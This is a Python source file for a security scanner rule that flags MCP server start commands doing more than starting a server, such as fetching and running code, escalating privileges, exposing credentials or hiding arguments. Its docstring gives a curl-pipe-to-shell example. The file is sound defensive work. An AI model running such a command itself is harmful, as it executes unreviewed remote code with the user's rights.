"""Start commands that do more than start a server.

**What.** The command, or a script inside it, becomes administrator, fetches and runs programs, runs
code written into it, opens a container to the host, hands over credential files or the whole disk,
talks to hosts in the clear or by bare address, drops a sandbox or the check of certificates, takes
packages from another index, or sets variables that make programs load foreign code. Hidden characters
and arguments padded out of sight count, too.

**Why.** The start command runs with your rights before anything of the server does. It is copied from a
README in one piece, and nobody reads it to the end.

**Example.** `bash -c "curl -s https://get.test/i.sh | sh; npx -y srv"`

**Left alone.** A service of this machine or of a private network in the clear (`http://localhost:3000`); a
container with a project's folder in it (`-v /srv/notes:/notes:ro`); what stands behind the image, which are
the server's own arguments; `cmd /c npx ...` on Windows.
"""

from __future__ import annotations

import re
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from functools import cache

import douane_signatures
from douane.errors import TargetError
from douane.model import Confidence, Launch, Severity, Where
from douane.rules import Evidence, Rule
from douane.targets.commands import program, read
from douane.targets.containers import engines, run_of
from douane.targets.shell import cut
from douane.text import is_hidden

MAX_WORD = 8_192
"""Characters of one argument that are looked at; a longer one is reported."""
_PADDING = re.compile(r"\s{40,}")


@dataclass(frozen=True, slots=True, kw_only=True)
class Pattern:
    """One thing a command should not do; see `signatures/.../launch/dangerous.toml`."""

    id: str
    why: str
    severity: Severity
    word: re.Pattern[str] | None
    environment: re.Pattern[str] | None
    container: re.Pattern[str] | None
    with_program: re.Pattern[str] | None
    without_program: re.Pattern[str] | None
    not_after: re.Pattern[str] | None
    first: bool
    matches: tuple[Sequence[str] | str, ...]
    ignores: tuple[Sequence[str] | str, ...]


@cache
def patterns() -> tuple[Pattern, ...]:
    """Return the patterns in the order of their file."""
    return tuple(_pattern(row) for row in douane_signatures.table("launch/dangerous.toml")["commands"])


def _pattern(row: dict[str, object]) -> Pattern:
    flags = re.RegexFlag(0) if row.get("case") else re.IGNORECASE

    def compiled(key: str) -> re.Pattern[str] | None:
        return re.compile(str(row[key]), flags) if key in row else None

    return Pattern(
        id=str(row["id"]),
        why=str(row["why"]),
        severity=Severity(str(row["severity"])),
        word=compiled("word"),
        environment=compiled("environment"),
        container=compiled("container"),
        with_program=compiled("with_program"),
        without_program=compiled("without_program"),
        not_after=compiled("not_after"),
        first=bool(row.get("first")),
        matches=tuple(row["matches"]),  # type: ignore[arg-type]
        ignores=tuple(row["ignores"]),  # type: ignore[arg-type]
    )


def detect(launch: Launch) -> Iterator[Evidence]:
    """Yield one evidence for each thing each pattern finds, and for what is hidden in the arguments."""
    argv = tuple(word[:MAX_WORD] for word in launch.argv)
    programs = _programs(argv)
    options = tuple(_container_options(argv))
    for pattern in patterns():
        at = _found(pattern, argv, programs, options)
        if at is not None:
            yield _evidence(f"/argv/{at}", " ".join(launch.argv[at : at + 2]), pattern)
        for index, name in enumerate(launch.environment_names):
            if pattern.environment and pattern.environment.search(name):
                yield _evidence(f"/environment_names/{index}", name, pattern)
    yield from _unseen(launch)


def _found(
    pattern: Pattern,
    argv: Sequence[str],
    programs: Sequence[tuple[int, str]],
    options: Sequence[tuple[int, str]],
) -> int | None:
    """Return the index of the argument that *pattern* is about, if it is there."""
    if pattern.container is not None:
        return next((at for at, option in options if pattern.container.search(option)), None)
    names = [name for _, name in programs]
    if pattern.with_program and not any(pattern.with_program.search(name) for name in names):
        return None
    if pattern.without_program and any(pattern.without_program.search(name) for name in names):
        return None
    for at in _places(pattern, argv, programs):
        before = argv[at - 1] if at else ""
        if pattern.not_after and pattern.not_after.search(before):
            continue
        if pattern.word and pattern.word.search(argv[at]):
            return at
    return None


def _places(pattern: Pattern, argv: Sequence[str], programs: Sequence[tuple[int, str]]) -> Iterator[int]:
    """The arguments to look at: all, or for `first` an interpreter's own options, up to its script."""
    if not pattern.first:
        yield from range(len(argv))
        return
    for start, name in programs:
        if pattern.with_program is None or not pattern.with_program.search(name):
            continue
        for at in range(start + 1, len(argv)):
            yield at
            if not argv[at].startswith("-"):
                break


def _container_options(argv: Sequence[str]) -> Iterator[tuple[int, str]]:
    """Index and text (``--long=value``) of the options of every container that the command starts."""
    for at, word in enumerate(argv):
        if program(word).lower() in engines():
            run = run_of(argv[at:])
            yield from ((at + option.at, str(option)) for option in (run.options if run else ()))
        elif len(word.split()) > 1 and any(engine in word for engine in engines()):
            yield from ((at, option) for _, option in _container_options(_words(word)))


def _words(text: str) -> tuple[str, ...]:
    """Return the words of a command line that stands in one argument; none if it cannot be cut."""
    try:
        parts = tuple(word.text for word in cut(text, operators=True))
    except TargetError:
        return ()
    return parts if len(parts) > 1 else ()


def _programs(argv: Sequence[str]) -> list[tuple[int, str]]:
    """Index and name of every program that the command starts; those of a script stand at its index."""
    found = [(0, program(argv[0]).lower())] if argv else []
    for at, word in enumerate(argv[1:], 1):
        if len(word.split()) > 1:
            first_words = re.split(r"&&|\|\||[;|\n]|\$\(|`", word)
            found += [(at, program(part.split()[0]).lower()) for part in first_words if part.split()]
    try:
        inner = read(argv).started if argv else ()
    except TargetError:
        inner = ()
    for words in inner:
        at = next((i for i in range(len(argv)) if words and argv[i] == words[0]), 0)
        found += [(at, program(words[0]).lower())] if words else []
    return list(dict.fromkeys(found))


def _evidence(pointer: str, shown: str, pattern: Pattern) -> Evidence:
    return Evidence(
        where=Where(pointer=pointer),
        excerpt=shown,
        why=f"The command {pattern.why}.",
        severity=pattern.severity,
    )


def _unseen(launch: Launch) -> Iterator[Evidence]:
    """What the eye passes over: hidden characters, long gaps, endless arguments."""
    for at, word in enumerate(launch.argv):
        pointer = f"/argv/{at}"
        hidden = next(
            (i for i, char in enumerate(word[:MAX_WORD]) if char not in "\n\t" and is_hidden(char)), None
        )
        gap = _PADDING.search(word[:MAX_WORD])
        if hidden is not None:
            shown = word[max(0, hidden - 40) : hidden + 80]
            why = "An argument holds characters that are not displayed, or that change how others are."
            yield Evidence(where=Where(pointer=pointer), excerpt=shown, why=why, severity=Severity.HIGH)
        elif gap is not None:
            why = "A long gap pushes the rest of an argument out of sight."
            yield Evidence(
                where=Where(pointer=pointer), excerpt=word[gap.end() :], why=why, severity=Severity.HIGH
            )
        if len(word) > MAX_WORD:
            why = f"An argument of {len(word)} characters cannot be reviewed (read: {MAX_WORD})."
            yield Evidence(where=Where(pointer=pointer), excerpt=word, why=why, severity=Severity.MEDIUM)


RULE = Rule(
    id="dangerous-launch-command",
    summary="the start command does more than start a server",
    severity=Severity.HIGH,
    confidence=Confidence.MEDIUM,
    row="runtime.command",
    remedy="Start the server without that part of the command, or do not start it.",
    taxonomy=("MCP05:2025", "MCP02:2025", "SAFE-T1101", "SAFE-T1006", "AML.T0050", "AML.T0011"),
    launch=detect,
)
